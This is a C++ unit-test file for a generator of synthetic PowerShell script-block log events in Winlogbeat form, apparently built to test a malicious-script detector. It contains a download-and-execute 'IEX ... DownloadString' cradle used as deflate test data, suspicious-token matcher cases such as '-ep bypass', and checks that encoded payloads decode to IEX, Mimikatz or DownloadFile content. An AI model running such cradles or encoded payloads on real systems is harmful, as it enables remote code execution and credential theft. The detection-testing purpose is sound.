// Tests for sbscan-gen (tools/generator): determinism, Winlogbeat shape,
// PowerShell fragmentation, levels, truth file and transport perturbations.
#include <simdjson.h>

#include <algorithm>
#include <cstdint>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "tools/generator/fragmenter.h"
#include "tools/generator/generator.h"
#include "tools/generator/script_corpus.h"
#include "tools/generator/suspicious_tokens.h"
#include "tools/generator/text_util.h"
#include "tools/generator/winlogbeat_writer.h"

#ifdef SBSCAN_HAVE_ZLIB
#include <zlib.h>
#endif

namespace sbscan::gen {
namespace {

const ScriptCorpus& Corpus() {
  static const ScriptCorpus* const kCorpus = new ScriptCorpus();
  return *kCorpus;
}

struct GenRun {
  std::string out;
  std::string truth;
  std::vector<BlockTruth> blocks;
  std::map<std::string, std::string> texts;  // script_block_id -> text
  GeneratorStats stats;
};

GenRun Generate(const GeneratorOptions& opt) {
  GenRun r;
  StringSink out(&r.out), truth(&r.truth);
  Generator g(opt, Corpus());
  EXPECT_TRUE(g.Run(out, &truth, [&](const BlockTruth& t, std::string_view text) {
    r.blocks.push_back(t);
    r.texts.emplace(t.script_block_id, std::string(text));
  }));
  r.stats = g.stats();
  return r;
}

std::vector<std::string_view> Lines(std::string_view s) {
  std::vector<std::string_view> lines;
  size_t pos = 0;
  while (pos < s.size()) {
    const size_t nl = s.find('\n', pos);
    EXPECT_NE(nl, std::string_view::npos) << "last line without newline";
    if (nl == std::string_view::npos) break;
    lines.push_back(s.substr(pos, nl - pos));
    pos = nl + 1;
  }
  return lines;
}

bool IsLowerGuid(std::string_view g) {
  if (g.size() != 36) return false;
  for (size_t i = 0; i < 36; ++i) {
    const char c = g[i];
    if (i == 8 || i == 13 || i == 18 || i == 23) {
      if (c != '-') return false;
    } else if (!((c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'))) {
      return false;
    }
  }
  return true;
}

bool IsTimestamp7(std::string_view t) {
  // 2024-03-05T14:22:07.4521873Z
  if (t.size() != 28 || t[4] != '-' || t[7] != '-' || t[10] != 'T' ||
      t[13] != ':' || t[16] != ':' || t[19] != '.' || t[27] != 'Z') {
    return false;
  }
  for (size_t i : {0, 1, 2, 3, 5, 6, 8, 9, 11, 12, 14, 15, 17, 18, 20, 21, 22,
                   23, 24, 25, 26}) {
    if (t[i] < '0' || t[i] > '9') return false;
  }
  return true;
}

std::string RemoveCr(std::string_view s) {
  std::string out;
  for (char c : s) {
    if (c != '\r') out.push_back(c);
  }
  return out;
}

std::vector<std::string> Keys(simdjson::dom::object o) {
  std::vector<std::string> keys;
  for (auto field : o) keys.emplace_back(field.key);
  return keys;
}

// One parsed 4104 line.
struct Fragment {
  std::string host, id, text, path;
  uint32_t number = 0, total = 0;
  uint64_t record_id = 0;
  std::string level;
  std::string line;
};

GeneratorOptions BaseOptions() {
  GeneratorOptions o;
  o.seed = 42;
  o.blocks = 400;
  o.hosts = 5;
  o.malicious_ratio = 0.2;
  return o;
}

// ------------------------------------------------------------------ basics

TEST(ScriptCorpusTest, MaterialCompilesWithoutErrors) {
  for (const std::string& e : Corpus().errors()) ADD_FAILURE() << e;
  EXPECT_GT(Corpus().template_count(), 200u);
  EXPECT_GE(Corpus().technique_count(), 25u);
  EXPECT_GE(Corpus().technique_variant_count(), 60u);
}

TEST(SuspiciousTokensTest, EmbeddedListMatchesReferenceFile) {
  std::ifstream f(std::string(SBSCAN_SHARED_DIR) +
                  "/reference/powershell_suspicious_tokens.txt");
  if (!f) GTEST_SKIP() << "shared/reference not available";
  std::vector<std::string> file_tokens;
  for (std::string line; std::getline(f, line);) {
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (!line.empty()) file_tokens.push_back(line);
  }
  ASSERT_EQ(file_tokens.size(), kSuspiciousTokens.size());
  for (size_t i = 0; i < file_tokens.size(); ++i) {
    EXPECT_EQ(file_tokens[i], kSuspiciousTokens[i]);
  }
}

TEST(SuspiciousTokensTest, MatcherSemantics) {
  const auto& m = SuspiciousTokenMatcher::Instance();
  EXPECT_TRUE(m.Contains("[System.Convert]::frombase64string($x)"));
  EXPECT_TRUE(m.Contains("$o.Properties"));      // no word boundaries
  EXPECT_TRUE(m.Contains("xxEMITxx"));            // ASCII case-insensitive
  EXPECT_TRUE(m.Contains("powershell -ep bypass"));
  EXPECT_FALSE(m.Contains("Get-ChildItem C:\\ | Sort-Object Name"));
  EXPECT_FALSE(m.Contains("Emi"));
  EXPECT_FALSE(m.Contains(""));
  // Non-ASCII letters are not folded: 'İ' is not 'i'.
  EXPECT_FALSE(m.Contains("Add-Typ\xC3\xA9"));
}

TEST(TextUtilTest, Base64AndUtf16) {
  EXPECT_EQ(Base64Encode(""), "");
  EXPECT_EQ(Base64Encode("f"), "Zg==");
  EXPECT_EQ(Base64Encode("fo"), "Zm8=");
  EXPECT_EQ(Base64Encode("foo"), "Zm9v");
  EXPECT_EQ(Base64Encode("Write-Output \"hello from a decoded block\""),
            "V3JpdGUtT3V0cHV0ICJoZWxsbyBmcm9tIGEgZGVjb2RlZCBibG9jayI=");
  EXPECT_EQ(Utf8ToUtf16Le("A\xC3\xBC"), std::string("A\0\xFC\0", 4));
  EXPECT_EQ(Utf16Length("a\xC3\xBC\xE2\x80\x94"), 3u);  // a, ü, em dash
  EXPECT_EQ(Utf16Length("\xF0\x9F\x98\x80"), 2u);       // astral: a pair
  const std::string long_text = std::string(40, 'x') + "\xC3\xBC" +
                                std::string(30, 'y') + "\xE2\x80\x94z";
  EXPECT_EQ(Utf16Length(long_text), 73u);
  EXPECT_EQ(Utf16UnitToByteOffset(long_text, 40), 40u);
  EXPECT_EQ(Utf16UnitToByteOffset(long_text, 41), 42u);
  EXPECT_EQ(Utf16UnitToByteOffset(long_text, 72), 75u);
  EXPECT_EQ(Utf16UnitToByteOffset(long_text, 73), long_text.size());
}

TEST(TextUtilTest, JsonEscapingRoundTrips) {
  std::string text = "q\"b\\s/ \r\n\t\b\f \x01\x1f\x7f G\xC3\xBC\xC3\x9F\xE2\x80\x94 <&>";
  text += std::string(40, 'a') + "\"" + std::string(20, '\\');  // SIMD path
  ByteBuffer b;
  b.Append("{\"v\":\"");
  AppendJsonEscaped(b, text, false);
  b.Append("\",\"m\":\"");
  AppendJsonEscaped(b, text, true);
  b.Append("\"}");
  simdjson::dom::parser parser;
  simdjson::dom::element doc;
  ASSERT_EQ(parser.parse(std::string(b.view())).get(doc), simdjson::SUCCESS);
  EXPECT_EQ(std::string(doc["v"].get_string().value()), text);
  EXPECT_EQ(std::string(doc["m"].get_string().value()), RemoveCr(text));
  EXPECT_NE(b.view().find("\\u0001"), std::string_view::npos);
}

#ifdef SBSCAN_HAVE_ZLIB
TEST(TextUtilTest, DeflateRawFixedInflates) {
  const std::string in =
      "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.15/a.ps1') "
      "\xC3\xBC\xFF\x80";
  const std::string def = DeflateRawFixed(in);
  z_stream zs{};
  ASSERT_EQ(inflateInit2(&zs, -15), Z_OK);
  std::string out(in.size() + 64, '\0');
  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(def.data()));
  zs.avail_in = static_cast<uInt>(def.size());
  zs.next_out = reinterpret_cast<Bytef*>(out.data());
  zs.avail_out = static_cast<uInt>(out.size());
  EXPECT_EQ(inflate(&zs, Z_FINISH), Z_STREAM_END);
  out.resize(zs.total_out);
  inflateEnd(&zs);
  EXPECT_EQ(out, in);
}
#endif

TEST(WriterTest, TimestampFormat) {
  ByteBuffer b;
  // 2024-03-05T14:22:07.4521873Z
  const Ticks t = (Ticks{19787} * 86400 + 14 * 3600 + 22 * 60 + 7) * kTicksPerSecond + 4521873;
  AppendTimestamp(b, t, false);
  b.Push(' ');
  AppendTimestamp(b, t, true);
  EXPECT_EQ(b.view(), "2024-03-05T14:22:07.4521873Z 2024-03-05T14:22:07.452Z");
}

// --------------------------------------------------------------- fragmenter

std::string Join(const std::vector<std::string_view>& pieces) {
  std::string s;
  for (auto p : pieces) s.append(p);
  return s;
}

TEST(FragmenterTest, SmallBlockIsOneOfOne) {
  const std::string text(19999, 'a');
  const auto pieces = FragmentText(text, 19999, 10000);
  ASSERT_EQ(pieces.size(), 1u);
  EXPECT_EQ(pieces[0].size(), 19999u);
}

TEST(FragmenterTest, ExactMultipleGivesEmptyLastFragment) {
  const std::string text(20000, 'a');
  EXPECT_EQ(FragmentCount(20000, 10000), 3u);
  const auto pieces = FragmentText(text, 20000, 10000);
  ASSERT_EQ(pieces.size(), 3u);
  EXPECT_EQ(pieces[0].size(), 10000u);
  EXPECT_EQ(pieces[1].size(), 10000u);
  EXPECT_TRUE(pieces[2].empty());
  const std::string text2(3 * 12345, 'b');
  const auto pieces2 = FragmentText(text2, text2.size(), 12345);
  ASSERT_EQ(pieces2.size(), 4u);
  EXPECT_TRUE(pieces2[3].empty());
}

TEST(FragmenterTest, CountsUtf16UnitsNotBytes) {
  // 2-byte and 3-byte characters: cuts are in code units and never split a
  // UTF-8 sequence.
  std::string text;
  size_t units = 0;
  const char* chars[] = {"a", "\xC3\xBC", "\xE2\x80\x94", "\xE2\x9C\x93", "\r\n"};
  const size_t char_units[] = {1, 1, 1, 1, 2};
  for (int i = 0; units < 45000; ++i) {
    const int k = (i * 7 + i / 3) % 5;
    text += chars[k];
    units += char_units[k];
  }
  ASSERT_EQ(Utf16Length(text), units);
  for (size_t piece : {10000u, 13337u, 19999u}) {
    const auto pieces = FragmentText(text, units, piece);
    ASSERT_EQ(pieces.size(), units / piece + 1);
    EXPECT_EQ(Join(pieces), text);
    for (size_t k = 0; k + 1 < pieces.size(); ++k) {
      EXPECT_EQ(Utf16Length(pieces[k]), piece);
      // Never starts with a continuation byte.
      if (!pieces[k + 1].empty()) {
        EXPECT_NE(static_cast<unsigned char>(pieces[k + 1][0]) & 0xC0, 0x80);
      }
    }
    EXPECT_EQ(Utf16Length(pieces.back()), units % piece);
  }
}

TEST(FragmenterTest, PieceSizeRange) {
  Rng rng(7);
  size_t lo = SIZE_MAX, hi = 0;
  for (int i = 0; i < 100000; ++i) {
    const size_t s = ChoosePieceUnits(rng);
    lo = std::min(lo, s);
    hi = std::max(hi, s);
  }
  EXPECT_EQ(lo, 10000u);
  EXPECT_EQ(hi, 19999u);
}

// ------------------------------------------------------------ whole stream

TEST(GeneratorTest, SameSeedSameBytesDifferentSeedDifferentBytes) {
  GeneratorOptions o = BaseOptions();
  o.shuffle_rate = 0.05;
  o.duplicate_rate = 0.05;
  o.drop_rate = 0.05;
  o.other_events_rate = 0.1;
  const GenRun a = Generate(o);
  const GenRun b = Generate(o);
  EXPECT_EQ(a.out, b.out);
  EXPECT_EQ(a.truth, b.truth);
  EXPECT_GT(a.out.size(), 100000u);
  o.seed = 43;
  const GenRun c = Generate(o);
  EXPECT_NE(a.out, c.out);
}

TEST(GeneratorTest, BytesOptionStopsNearTheTarget) {
  GeneratorOptions o = BaseOptions();
  o.blocks = 0;
  o.bytes = 3 << 20;
  const GenRun r = Generate(o);
  EXPECT_GE(r.out.size(), o.bytes);
  EXPECT_LT(r.out.size(), o.bytes + (4 << 20));
  EXPECT_EQ(r.stats.bytes, r.out.size());
}

class StreamTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    GeneratorOptions o = BaseOptions();
    o.blocks = 600;
    o.other_events_rate = 0.1;
    run_ = new GenRun(Generate(o));
    reference_keys_ = new std::map<std::string, std::vector<std::string>>();
    std::ifstream f(std::string(SBSCAN_SHARED_DIR) + "/formats/winlogbeat.json");
    std::string line;
    if (f && std::getline(f, line)) {
      simdjson::dom::parser p;
      simdjson::dom::element doc;
      if (p.parse(line).get(doc) == simdjson::SUCCESS) {
        (*reference_keys_)[""] = Keys(doc.get_object());
        (*reference_keys_)["winlog"] = Keys(doc["winlog"].get_object());
        (*reference_keys_)["event"] = Keys(doc["event"].get_object());
        (*reference_keys_)["agent"] = Keys(doc["agent"].get_object());
        (*reference_keys_)["event_data"] = Keys(doc["winlog"]["event_data"].get_object());
      }
    }
  }
  static void TearDownTestSuite() {
    delete run_;
    delete reference_keys_;
  }
  static GenRun* run_;
  static std::map<std::string, std::vector<std::string>>* reference_keys_;
};
GenRun* StreamTest::run_ = nullptr;
std::map<std::string, std::vector<std::string>>* StreamTest::reference_keys_ = nullptr;

TEST_F(StreamTest, EveryLineIsWinlogbeatShaped) {
  simdjson::dom::parser parser;
  std::map<std::string, uint64_t> last_record;
  std::map<std::string, std::string> last_time;
  size_t n4104 = 0, nother = 0;
  std::set<std::string> other_ids;
  for (std::string_view line : Lines(run_->out)) {
    simdjson::dom::element doc;
    ASSERT_EQ(parser.parse(std::string(line)).get(doc), simdjson::SUCCESS) << line.substr(0, 200);
    std::string_view ts, event_id, host, level, message;
    ASSERT_EQ(doc["@timestamp"].get(ts), simdjson::SUCCESS);
    EXPECT_TRUE(IsTimestamp7(ts)) << ts;
    ASSERT_EQ(doc["winlog"]["event_id"].get(event_id), simdjson::SUCCESS);  // a string
    ASSERT_EQ(doc["winlog"]["computer_name"].get(host), simdjson::SUCCESS);
    ASSERT_EQ(doc["log"]["level"].get(level), simdjson::SUCCESS);
    ASSERT_EQ(doc["message"].get(message), simdjson::SUCCESS);
    std::string_view code;
    ASSERT_EQ(doc["event"]["code"].get(code), simdjson::SUCCESS);
    EXPECT_EQ(code, event_id);
    std::string_view host_name;
    ASSERT_EQ(doc["host"]["name"].get(host_name), simdjson::SUCCESS);
    EXPECT_EQ(host_name, host);
    EXPECT_TRUE(host.ends_with(".corp.example.com"));
    uint64_t record_id = 0, pid = 0;
    ASSERT_EQ(doc["winlog"]["record_id"].get(record_id), simdjson::SUCCESS);
    ASSERT_EQ(doc["winlog"]["process"]["pid"].get(pid), simdjson::SUCCESS);
    std::string_view channel;
    ASSERT_EQ(doc["winlog"]["channel"].get(channel), simdjson::SUCCESS);
    // Record ids increase per host and channel (no shuffle in this run).
    const std::string key = std::string(host) + "|" + std::string(channel);
    if (last_record.count(key)) {
      EXPECT_GT(record_id, last_record[key]);
    }
    last_record[key] = record_id;
    if (last_time.count("")) {
      EXPECT_GE(std::string(ts), last_time[""]);
    }
    last_time[""] = std::string(ts);
    if (event_id != "4104") {
      ++nother;
      other_ids.insert(std::string(event_id));
      continue;
    }
    ++n4104;
    EXPECT_TRUE(level == "verbose" || level == "warning") << level;
    if (!reference_keys_->empty()) {
      EXPECT_EQ(Keys(doc.get_object()), (*reference_keys_)[""]);
      EXPECT_EQ(Keys(doc["winlog"].get_object()), (*reference_keys_)["winlog"]);
      EXPECT_EQ(Keys(doc["event"].get_object()), (*reference_keys_)["event"]);
      EXPECT_EQ(Keys(doc["agent"].get_object()), (*reference_keys_)["agent"]);
    }
    simdjson::dom::object data;
    ASSERT_EQ(doc["winlog"]["event_data"].get(data), simdjson::SUCCESS);
    std::string_view num, total, id, text, path;
    ASSERT_EQ(data["MessageNumber"].get(num), simdjson::SUCCESS);
    ASSERT_EQ(data["MessageTotal"].get(total), simdjson::SUCCESS);
    ASSERT_EQ(data["ScriptBlockId"].get(id), simdjson::SUCCESS);
    EXPECT_TRUE(IsLowerGuid(id)) << id;
    const bool has_text = data["ScriptBlockText"].get(text) == simdjson::SUCCESS;
    const bool has_path = data["Path"].get(path) == simdjson::SUCCESS;
    if (has_text) {
      EXPECT_FALSE(text.empty());
    }
    if (has_path) {
      EXPECT_FALSE(path.empty());
    }
    std::string_view user;
    ASSERT_EQ(doc["winlog"]["user"]["identifier"].get(user), simdjson::SUCCESS);
    EXPECT_TRUE(user.starts_with("S-1-5-"));
    const std::string expected_message =
        "Creating Scriptblock text (" + std::string(num) + " of " +
        std::string(total) + "):\n" + RemoveCr(text) + "\n\nScriptBlock ID: " +
        std::string(id) + "\nPath: " + std::string(path);
    EXPECT_EQ(message, expected_message);
  }
  EXPECT_GT(n4104, 600u);
  EXPECT_GT(nother, 0u);
  EXPECT_GE(other_ids.size(), 5u);
  const double other_frac = static_cast<double>(nother) / (n4104 + nother);
  EXPECT_NEAR(other_frac, 0.1, 0.03);
}

// Parses all 4104 lines of a run.
std::vector<Fragment> ParseFragments(const std::string& out) {
  std::vector<Fragment> frags;
  simdjson::dom::parser parser;
  for (std::string_view line : Lines(out)) {
    simdjson::dom::element doc;
    if (parser.parse(std::string(line)).get(doc) != simdjson::SUCCESS) {
      ADD_FAILURE() << "bad JSON";
      continue;
    }
    std::string_view event_id;
    if (doc["winlog"]["event_id"].get(event_id) != simdjson::SUCCESS || event_id != "4104") continue;
    Fragment f;
    auto data = doc["winlog"]["event_data"];
    f.host = std::string(doc["winlog"]["computer_name"].get_string().value());
    f.id = std::string(data["ScriptBlockId"].get_string().value());
    f.number = static_cast<uint32_t>(std::stoul(std::string(data["MessageNumber"].get_string().value())));
    f.total = static_cast<uint32_t>(std::stoul(std::string(data["MessageTotal"].get_string().value())));
    std::string_view sv;
    if (data["ScriptBlockText"].get(sv) == simdjson::SUCCESS) f.text = std::string(sv);
    if (data["Path"].get(sv) == simdjson::SUCCESS) f.path = std::string(sv);
    f.level = std::string(doc["log"]["level"].get_string().value());
    f.record_id = doc["winlog"]["record_id"].get_uint64().value();
    f.line = std::string(line);
    frags.push_back(std::move(f));
  }
  return frags;
}

TEST_F(StreamTest, FragmentsReassembleToOriginalAndObeyPowerShellCuts) {
  const auto frags = ParseFragments(run_->out);
  std::map<std::string, std::map<uint32_t, const Fragment*>> by_block;
  for (const Fragment& f : frags) by_block[f.id][f.number] = &f;
  ASSERT_EQ(by_block.size(), run_->blocks.size());
  size_t multi = 0, warnings = 0, with_non_ascii = 0;
  for (const BlockTruth& t : run_->blocks) {
    const std::string& original = run_->texts.at(t.script_block_id);
    const auto& pieces = by_block.at(t.script_block_id);
    ASSERT_EQ(pieces.size(), t.fragments);
    std::string joined;
    for (const auto& [n, f] : pieces) {
      joined += f->text;
      EXPECT_EQ(f->total, t.fragments);
      EXPECT_EQ(f->host, t.host);
      EXPECT_EQ(f->path, t.path);
    }
    EXPECT_EQ(joined, original) << t.script_block_id;
    const size_t len = Utf16Length(original);
    EXPECT_EQ(len, t.utf16_length);
    if (std::any_of(original.begin(), original.end(), [](char c) { return c & 0x80; })) {
      ++with_non_ascii;
    }
    // PowerShell's rule, in UTF-16 code units.
    ASSERT_GE(t.piece_units, 10000u);
    ASSERT_LE(t.piece_units, 19999u);
    if (len < 20000) {
      EXPECT_EQ(t.fragments, 1u);
    } else {
      ++multi;
      EXPECT_EQ(t.fragments, len / t.piece_units + 1);
      for (const auto& [n, f] : pieces) {
        const size_t units = Utf16Length(f->text);
        if (n < t.fragments) {
          EXPECT_EQ(units, t.piece_units);
        } else {
          EXPECT_EQ(units, len % t.piece_units);
        }
      }
    }
    // Level: warning iff one of PowerShell's suspicious tokens occurs.
    const bool suspicious = SuspiciousTokenMatcher::ContainsNaive(original);
    EXPECT_EQ(SuspiciousTokenMatcher::Instance().Contains(original), suspicious);
    EXPECT_EQ(t.warning, suspicious);
    for (const auto& [n, f] : pieces) {
      EXPECT_EQ(f->level, suspicious ? "warning" : "verbose");
    }
    warnings += suspicious;
    EXPECT_EQ(t.malicious, !t.techniques.empty());
  }
  EXPECT_GT(multi, 20u);
  EXPECT_GT(warnings, 0u);
  EXPECT_LT(warnings, run_->blocks.size());
  EXPECT_GT(with_non_ascii, 5u);
}

TEST_F(StreamTest, TruthFileIsValidJsonAndMatchesCallback) {
  simdjson::dom::parser parser;
  const auto lines = Lines(run_->truth);
  ASSERT_EQ(lines.size(), run_->blocks.size());
  size_t malicious = 0;
  for (size_t i = 0; i < lines.size(); ++i) {
    simdjson::dom::element doc;
    ASSERT_EQ(parser.parse(std::string(lines[i])).get(doc), simdjson::SUCCESS);
    const BlockTruth& t = run_->blocks[i];
    EXPECT_EQ(std::string(doc["script_block_id"].get_string().value()), t.script_block_id);
    EXPECT_EQ(std::string(doc["host"].get_string().value()), t.host);
    EXPECT_EQ(doc["fragments"].get_uint64().value(), t.fragments);
    EXPECT_EQ(doc["malicious"].get_bool().value(), t.malicious);
    EXPECT_EQ(doc["techniques"].get_array().size(), t.techniques.size());
    EXPECT_EQ(doc["complete"].get_bool().value(), true);
    malicious += t.malicious;
  }
  // Malicious blocks are spread evenly: exactly ratio * blocks (+-1).
  EXPECT_NEAR(static_cast<double>(malicious), 0.2 * run_->blocks.size(), 1.0);
}

// Base64 decoding for the checks below.
std::string DecodeBase64(std::string_view s) {
  auto val = [](char c) -> int {
    if (c >= 'A' && c <= 'Z') return c - 'A';
    if (c >= 'a' && c <= 'z') return c - 'a' + 26;
    if (c >= '0' && c <= '9') return c - '0' + 52;
    if (c == '+') return 62;
    if (c == '/') return 63;
    return -1;
  };
  std::string out;
  uint32_t acc = 0;
  int bits = 0;
  for (char c : s) {
    const int v = val(c);
    if (v < 0) break;
    acc = (acc << 6) | static_cast<uint32_t>(v);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out.push_back(static_cast<char>((acc >> bits) & 0xFF));
    }
  }
  return out;
}

TEST(GeneratorTest, TechniquesAreRealAndSomeStraddleCuts) {
  GeneratorOptions o = BaseOptions();
  o.blocks = 3000;
  o.malicious_ratio = 0.3;
  const GenRun r = Generate(o);
  size_t straddles = 0, encoded_checked = 0;
  std::set<std::string_view> names;
  for (const BlockTruth& t : r.blocks) {
    const std::string& text = r.texts.at(t.script_block_id);
    const size_t len = Utf16Length(text);
    for (const TechniqueSpan& s : t.techniques) {
      names.insert(s.name);
      ASSERT_LE(s.utf16_offset + s.utf16_length, len);
      // Recompute whether a cut falls strictly inside the span.
      bool inside = false;
      if (t.fragments > 1) {
        for (size_t k = 1; k < t.fragments; ++k) {
          const size_t cut = k * t.piece_units;
          inside |= cut > s.utf16_offset && cut < s.utf16_offset + s.utf16_length;
        }
      }
      EXPECT_EQ(s.straddles_cut, inside);
      straddles += inside;
    }
    // -enc payloads are real Base64 of UTF-16LE PowerShell.
    for (size_t pos = text.find(" -enc "); pos != std::string::npos;
         pos = text.find(" -enc ", pos + 1)) {
      const std::string utf16 = DecodeBase64(std::string_view(text).substr(pos + 6));
      std::string ascii;
      for (size_t i = 0; i + 1 < utf16.size(); i += 2) {
        EXPECT_EQ(utf16[i + 1], '\0');
        ascii.push_back(utf16[i]);
      }
      EXPECT_TRUE(ascii.find("IEX") != std::string::npos ||
                  ascii.find("iex") != std::string::npos ||
                  ascii.find("Mimikatz") != std::string::npos ||
                  ascii.find("DownloadFile") != std::string::npos)
          << ascii;
      ++encoded_checked;
    }
  }
  EXPECT_GT(straddles, 20u);
  EXPECT_GT(encoded_checked, 3u);
  EXPECT_EQ(names.size(), Corpus().technique_count());
}

TEST(GeneratorTest, PerturbationRatesActAsStatedAndTruthAgrees) {
  GeneratorOptions o = BaseOptions();
  o.blocks = 4000;
  o.hosts = 8;
  o.shuffle_rate = 0.1;
  o.duplicate_rate = 0.05;
  o.drop_rate = 0.1;
  const GenRun r = Generate(o);
  const auto frags = ParseFragments(r.out);
  std::map<std::string, std::vector<const Fragment*>> by_block;  // output order
  for (const Fragment& f : frags) by_block[f.id].push_back(&f);

  size_t fragments = 0, multi_fragments = 0, dropped = 0, duplicated = 0,
         delayed = 0, out_of_order_blocks = 0;
  for (const BlockTruth& t : r.blocks) {
    fragments += t.fragments;
    if (t.fragments > 1) multi_fragments += t.fragments;
    dropped += t.dropped.size();
    duplicated += t.duplicated.size();
    delayed += t.delayed.size();
    if (t.fragments == 1) {
      EXPECT_TRUE(t.dropped.empty());
    }
    const auto it = by_block.find(t.script_block_id);
    const std::vector<const Fragment*> seen =
        it == by_block.end() ? std::vector<const Fragment*>{} : it->second;
    std::map<uint32_t, int> copies;
    std::map<uint32_t, std::string> first_line;
    bool out_of_order = false;
    uint32_t max_seen = 0;
    for (const Fragment* f : seen) {
      if (copies[f->number]++ == 0) {
        first_line[f->number] = f->line;
        if (f->number < max_seen) out_of_order = true;
        max_seen = std::max(max_seen, f->number);
      } else {
        EXPECT_EQ(f->line, first_line[f->number]) << "duplicate is not exact";
      }
    }
    std::vector<uint32_t> emitted;
    for (const auto& [n, c] : copies) emitted.push_back(n);
    EXPECT_EQ(emitted, t.emitted);
    for (uint32_t n : t.dropped) {
      EXPECT_EQ(copies.count(n), 0u);
    }
    for (const auto& [n, c] : copies) {
      const bool dup = std::count(t.duplicated.begin(), t.duplicated.end(), n) > 0;
      EXPECT_EQ(c, dup ? 2 : 1);
    }
    EXPECT_EQ(t.emitted.size() + t.dropped.size(), t.fragments);
    EXPECT_EQ(t.out_of_order, out_of_order);
    out_of_order_blocks += out_of_order;
  }
  const double written = static_cast<double>(fragments - dropped);
  EXPECT_NEAR(dropped / static_cast<double>(multi_fragments), 0.1, 0.03);
  EXPECT_NEAR(duplicated / written, 0.05, 0.015);
  EXPECT_NEAR(delayed / written, 0.1, 0.02);
  EXPECT_GT(out_of_order_blocks, 0u);
  EXPECT_EQ(r.stats.dropped, dropped);
  EXPECT_EQ(r.stats.events_4104, frags.size());
}

TEST(GeneratorTest, MultiFragmentBlocksAreCommonAndEventsAreLarge) {
  GeneratorOptions o = BaseOptions();
  o.blocks = 2000;
  o.malicious_ratio = 0.05;
  const GenRun r = Generate(o);
  const double events = static_cast<double>(r.stats.events_4104);
  const double avg = static_cast<double>(r.out.size()) / events;
  EXPECT_GT(avg, 8000.0);
  EXPECT_LT(avg, 16000.0);
  EXPECT_GT(r.stats.multi_fragment_blocks, r.stats.blocks / 20);
  size_t large = 0;
  for (const BlockTruth& t : r.blocks) large += t.utf16_length >= 60000;
  EXPECT_GT(large, 10u);
}

TEST(GeneratorTest, OptionsValidate) {
  GeneratorOptions o;
  EXPECT_EQ(o.Validate(), "");
  o.shuffle_rate = 1.5;
  EXPECT_NE(o.Validate(), "");
  o = GeneratorOptions();
  o.hosts = 0;
  EXPECT_NE(o.Validate(), "");
}

}  // namespace
}  // namespace sbscan::gen
